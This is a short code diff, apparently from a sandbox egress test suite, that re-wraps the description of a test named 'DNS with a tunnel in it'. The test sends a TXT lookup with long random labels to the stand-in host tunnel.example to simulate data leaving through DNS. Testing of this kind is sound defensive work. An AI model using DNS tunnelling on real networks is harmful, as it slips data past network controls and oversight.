@@ -280,7 +280,7 @@ def inner(response):
 
 
 @attempt("DNS with a tunnel in it (long random labels)", control="jo",
-         wins="What is looked up is a message to whoever owns the name. It is slow, and needs a server outside. The level "
-              "Close support (chosen sites only) stops it.")
+         wins="What is looked up is a message to whoever owns the name. It is slow, and needs a server outside. The "
+              "level Close support (chosen sites only) stops it.")
 def dns_tunnel(me):
     return learn(ask(f"{me.marker}{'x7q' * 14}.{'k2v' * 20}.tunnel.example", "TXT"))
